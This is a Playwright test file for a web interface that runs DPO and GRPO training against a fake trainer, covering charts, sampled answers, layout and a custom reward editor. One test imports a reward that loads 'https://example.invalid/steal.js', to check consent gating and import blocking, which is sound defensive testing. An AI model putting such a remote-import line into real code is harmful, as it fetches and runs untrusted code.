/** Preference and reward training on the built page, with a fake trainer: what each method shows, and where it leads. */
import type { BrowserContextOptions, Page } from 'playwright';
import { describe, expect, it } from 'vitest';
import type { FakeScenario } from './fake-trainer.ts';
import { useFakePage } from './visit.ts';

/** Enough for curves, a slider and a validation at the end. */
const STEPS = 10;

const site = useFakePage();

const visit = (body: (page: Page) => Promise<void>, context: BrowserContextOptions = {}, scenario: FakeScenario = {}) => site.visit(body, { scenario: { stepMs: 4, steps: STEPS, ...scenario }, context });

const status = (page: Page, wanted: string) => page.locator(`[data-testid="run"][data-status="${wanted}"]`).waitFor({ timeout: 60_000 });

/** The demo with a method, ready to start. */
async function ready(page: Page, method: string): Promise<void> {
  await page.getByTestId(`method-${method}`).click();
  await page.getByTestId('preset-demo').click();
  await page.getByTestId('model-demo').click();
  await page.getByTestId('data-demo').click();
  await page.getByTestId('plan-card').waitFor();
}

async function trained(page: Page, method: string): Promise<void> {
  await ready(page, method);
  await page.getByTestId('start').click();
  await status(page, 'finished');
}

const setting = (page: Page, key: string) => page.locator(`[data-setting="${key}"]`);

describe('the method switch', () => {
  it('shows the settings that apply, and brings changes of another method back on demand', async () => {
    await visit(async (page) => {
      await page.getByTestId('open-settings').click();
      expect(await setting(page, 'beta').count()).toBe(0);
      await page.getByTestId('close-settings').click();
      await page.getByTestId('method-grpo').click();
      await page.getByTestId('open-settings').click();
      await page.getByTestId('expert').check();
      expect(await setting(page, 'num_generations').count()).toBe(1);
      expect(await setting(page, 'label_smoothing').count()).toBe(0);
      await page.locator('#setting-num_generations').fill('6');
      await page.locator('#setting-num_generations').blur();
      await page.getByTestId('close-settings').click();
      await page.getByTestId('method-sft').click();
      await page.getByTestId('undo').click();
      expect(await page.getByTestId('method-grpo').getAttribute('aria-pressed')).toBe('true');
      expect(await page.getByTestId('method-card').innerText()).toContain('× 6 answers');
    });
  });

  it('mixes DPO losses by weights and says which weight is wrong', async () => {
    await visit(async (page) => {
      await page.getByTestId('method-dpo').click();
      await page.getByTestId('open-settings').click();
      await page.getByTestId('loss-add').click();
      await page.getByTestId('loss-1').selectOption('sft');
      await page.getByTestId('loss-weight-1').fill('0.2');
      await page.getByTestId('loss-weight-1').blur();
      await page.getByTestId('close-settings').click();
      expect(await page.getByTestId('method-card').innerText()).toContain('sigmoid + 0.2 sft');
      await page.getByTestId('open-settings').click();
      await page.getByTestId('loss-weight-1').fill('much');
      await page.getByTestId('loss-weight-1').blur();
      await page.getByTestId('problem-loss_type').waitFor();
      await page.getByTestId('loss-remove-1').click();
      expect(await page.getByTestId('problem-loss_type').count()).toBe(0);
      expect(await page.getByTestId('loss-weight-0').count()).toBe(0);
    });
  });

  it('says what the method needs when the data has nothing for it', async () => {
    await visit(async (page) => {
      await page.getByTestId('method-dpo').click();
      await page.getByTestId('train-files').setInputFiles({ name: 'train.json', mimeType: 'application/json', buffer: Buffer.from('[]') });
      expect(await page.getByTestId('data-unfit').innerText()).toContain('chosen and a rejected');
    });
  });
});

describe('a DPO run', () => {
  it('shows its numbers, its table and its curves', async () => {
    await visit(async (page) => {
      await trained(page, 'dpo');
      expect(await page.getByTestId('number-accuracy').innerText()).toMatch(/\d+ %/);
      expect(await page.getByTestId('number-val_accuracy').innerText()).toMatch(/\d+ %/);
      const cells = await page.getByTestId('summary-val_accuracy').locator('td').allInnerTexts();
      expect(cells[0]).toBe('0.500');
      for (const chart of ['loss', 'accuracy', 'pair-rewards', 'logps']) expect(await page.getByTestId(`chart-${chart}`).locator('canvas').count(), chart).toBe(1);
      expect(await page.getByTestId('chart-logits').count()).toBe(0);
      await page.getByTestId('more-charts').locator('summary').click();
      await page.getByTestId('chart-logits').locator('canvas').waitFor();
    });
  });
});

describe('a GRPO run', () => {
  it('shows rewards, and the answers of any logged step with boxes, terms and advantages', async () => {
    await visit(async (page) => {
      await trained(page, 'grpo');
      expect(await page.getByTestId('number-val_reward').innerText()).toMatch(/^\d/);
      for (const chart of ['reward', 'terms', 'spread', 'wasted', 'length', 'entropy', 'clip']) expect(await page.getByTestId(`chart-${chart}`).locator('canvas').count(), chart).toBe(1);
      expect(await page.getByTestId('chart-kl').innerText()).toContain('beta is 0');

      const answers = page.getByTestId('completions');
      await answers.getByTestId('completions-step').getByText(`step ${STEPS}`).waitFor();
      expect(await answers.getByTestId('completion').count()).toBe(8);
      expect(await answers.getByTestId('zero-variance').count()).toBe(1);
      await answers.getByTestId('completions-all').click();
      expect(await answers.getByTestId('completion').count()).toBe(32);
      expect(await answers.getByTestId('truncated').count()).toBe(1);
      const first = answers.getByTestId('completion-group').first();
      await first.locator('img').first().waitFor();
      const rewards = (await first.locator('.total b').allInnerTexts()).map(Number);
      expect(rewards).toEqual([...rewards].sort((a, b) => b - a));
      expect(await first.locator('.advantage').first().innerText()).toContain('+');
      expect(await first.locator('.advantage').last().innerText()).toContain('−');

      await answers.getByTestId('step-slider').focus();
      await page.keyboard.press('Home');
      await answers.getByTestId('completions-step').getByText('step 1', { exact: true }).waitFor();
      await page.keyboard.press('ArrowRight');
      await answers.getByTestId('completions-step').getByText('step 2', { exact: true }).waitFor();

      await first.getByTestId('completion').first().click();
      const dialog = page.getByTestId('completion-dialog');
      expect(await dialog.getByTestId('completion-text').innerText()).toContain('检测到');
      const before = await dialog.locator('h2').innerText();
      await page.keyboard.press('ArrowRight');
      expect(await dialog.locator('h2').innerText()).not.toBe(before);
      await page.keyboard.press('Escape');
      await dialog.waitFor({ state: 'detached' });

      const shares = await page.getByTestId('phases').locator('dd .muted').allInnerTexts();
      const sum = shares.reduce((total, text) => total + Number.parseInt(text, 10), 0);
      expect(Math.abs(sum - 100)).toBeLessThanOrEqual(3);
      expect(await page.getByTestId('phase-generate').innerText()).toContain('s');
    });
  });

  it('keeps its answers: a stored run shows them after a reload', async () => {
    await visit(async (page) => {
      await trained(page, 'grpo-trl');
      await page.reload();
      await page.getByTestId('nav-runs').click();
      await page.getByTestId('run-open').click();
      const answers = page.getByTestId('completions');
      await answers.getByTestId('step-previous').click();
      await answers.getByTestId('completions-step').getByText(`step ${STEPS - 1}`).waitFor();
      await answers.getByTestId('completion-group').first().locator('img').first().waitFor();
      expect(await page.getByTestId('summary-eval_reward').count()).toBe(1);
    });
  });

  it('follows the newest step while it trains, and stays where it is told to', async () => {
    await visit(
      async (page) => {
        await ready(page, 'grpo');
        await page.getByTestId('start').click();
        const answers = page.getByTestId('completions');
        await answers.waitFor();
        await page.getByTestId('follow').click();
        const step = await answers.getByTestId('completions-step').innerText();
        expect(await page.getByTestId('follow').getAttribute('aria-pressed')).toBe('false');
        await page.waitForTimeout(700);
        expect(await answers.getByTestId('completions-step').innerText()).toBe(step);
        await page.getByTestId('follow').click();
        await page.waitForFunction((old) => document.querySelector('[data-testid="completions-step"]')?.textContent !== old, step);
        await page.getByTestId('stop').click();
        await status(page, 'stopped');
      },
      {},
      { stepMs: 40, steps: 40 },
    );
  });

  it('explains a loss near 0, and leads from a note to the setting that would help', async () => {
    await visit(
      async (page) => {
        await trained(page, 'grpo');
        expect(await page.getByTestId('diagnosis-grpo-loss-near-zero').innerText()).toContain('normal in GRPO');
        await page.getByTestId('diagnosis-length-cut').getByTestId('change-max_completion_length').click();
        await page.getByTestId('settings').waitFor();
        await page.waitForFunction(() => document.activeElement?.id === 'setting-max_completion_length');
        await page.getByTestId('close-settings').click();
        await page.getByTestId('nav-runs').click();
        await page.getByTestId('run-open').click();
        expect(await page.getByTestId('diagnosis-length-cut').innerText()).toContain('max_completion_length');
      },
      {},
      { cutShare: 0.5 },
    );
  });

  it('fits on 360 pixels, in Chinese, with a name on every control', async () => {
    await visit(
      async (page) => {
        await trained(page, 'grpo');
        await page.getByTestId('completions').waitFor();
        expect(await page.evaluate(() => document.documentElement.scrollWidth - innerWidth)).toBeLessThanOrEqual(0);
        expect(await page.getByTestId('completions').innerText()).toContain('采样的回答');
        const nameless = await page.evaluate(() =>
          [...document.querySelectorAll('button, a, input:not([hidden]), select, textarea')]
            .filter((element) => !element.textContent?.trim() && !element.getAttribute('aria-label') && !(element as HTMLInputElement).labels?.length)
            .map((element) => element.outerHTML),
        );
        expect(nameless).toEqual([]);
      },
      { viewport: { width: 360, height: 740 }, isMobile: true, hasTouch: true, locale: 'zh-CN' },
    );
  });
});

describe('own rewards', () => {
  it('are written with a trial on the data, faults named by line, and count in the settings', async () => {
    await visit(async (page) => {
      await ready(page, 'grpo');
      await page.getByTestId('open-settings').click();
      await page.getByTestId('edit-rewards').click();
      const dialog = page.getByTestId('rewards-dialog');
      await dialog.getByTestId('add-example').first().click();
      const rows = dialog.getByTestId('trial-row');
      await rows.first().waitFor();
      expect(await rows.count()).toBe(8);
      expect(await rows.first().innerText()).toContain('1.000');

      const code = dialog.getByTestId('reward-code');
      await code.fill('function reward({ extra, prompt }) { return extra.scene && prompt ? 0.75 : 0; }');
      await rows.first().getByText('0.750').waitFor();
      await code.fill('function reward({ objects, truthObjects }) { return objects.length === truthObjects.length ? 1 : 0; }');
      await rows.first().getByText('1.000').waitFor();
      await code.fill('function reward({ objects }) {\n  return objects.missing.length;\n}');
      await dialog.locator('.gutter .marked').waitFor();
      expect(await dialog.locator('.gutter .marked').innerText()).toBe('2');
      expect(await rows.first().innerText()).toContain('The function failed · line 2, column 25');

      await code.fill('function reward() {\n  const a = 1;\n  return (a +;\n}');
      await dialog.getByTestId('trial-fault').waitFor();
      expect(await dialog.getByTestId('trial-fault').innerText()).toMatch(/The code cannot be loaded · line 3, column 14\s+SyntaxError: unexpected token/);
      expect(await dialog.locator('.gutter .marked').innerText()).toBe('3');
      await dialog.getByTestId('fault-place').click();
      expect(await code.evaluate((area: HTMLTextAreaElement) => [area === document.activeElement, area.value.slice(area.selectionStart)])).toEqual([true, ';\n}']);
      await code.fill('function reward() { return 0.5; }');
      await dialog.getByTestId('trial-equal').waitFor();
      await code.fill('function reward() { for (;;); }');
      await dialog.getByText('No value within the time limit').first().waitFor({ timeout: 20_000 });

      await code.fill('');
      await code.pressSequentially('function reward() {\nreturn 1;');
      expect(await code.inputValue()).toBe('function reward() {\n  return 1;');
      await page.keyboard.press('Escape');
      await page.keyboard.press('Tab');
      expect(await code.evaluate((element) => element === document.activeElement)).toBe(false);

      await dialog.getByTestId('reward-name').fill('format');
      await dialog.getByTestId('reward-name').blur();
      await dialog.getByText('Another reward has this name.').waitFor();
      await dialog.getByTestId('reward-name').fill('my_own');
      await dialog.getByTestId('reward-name').blur();
      await dialog.getByTestId('rewards-dialog-close').click();
      await page.getByTestId('close-settings').click();
      expect(await page.getByTestId('method-card').innerText()).toContain('+ my_own');
    });
  });

  it('that come from a file are shown first and run only when that was agreed to, once', async () => {
    await visit(async (page) => {
      await ready(page, 'grpo');
      const started: string[] = [];
      page.on('worker', (worker) => started.push(worker.url()));
      const source = "export * from 'https://example.invalid/steal.js';\nexport default () => 1;";
      const buffer = Buffer.from(JSON.stringify({ method: 'grpo', custom_rewards: [{ name: 'theirs', source }] }));
      const bring = () => page.getByTestId('import-settings').setInputFiles({ name: 's.json', mimeType: 'application/json', buffer });
      await bring();
      expect(await page.getByTestId('consent-text').innerText()).toBe(source);
      await page.getByTestId('consent-refuse').click();
      await page.getByText('the code was not agreed to').waitFor();
      expect(await page.getByTestId('method-card').innerText()).not.toContain('theirs');
      expect(started).toEqual([]);

      await bring();
      await page.getByTestId('consent-agree').click();
      await page.getByText('+ theirs').first().waitFor();
      await page.getByTestId('open-settings').click();
      await page.getByTestId('edit-rewards').click();
      expect(await page.getByTestId('trial-fault').innerText()).toContain('A reward cannot load other files');
      await page.getByTestId('rewards-dialog-close').click();
      await page.getByTestId('close-settings').click();
      await bring();
      await page.getByTestId('toast').first().waitFor();
      expect(await page.getByTestId('code-consent').count()).toBe(0);
    });
  });
});
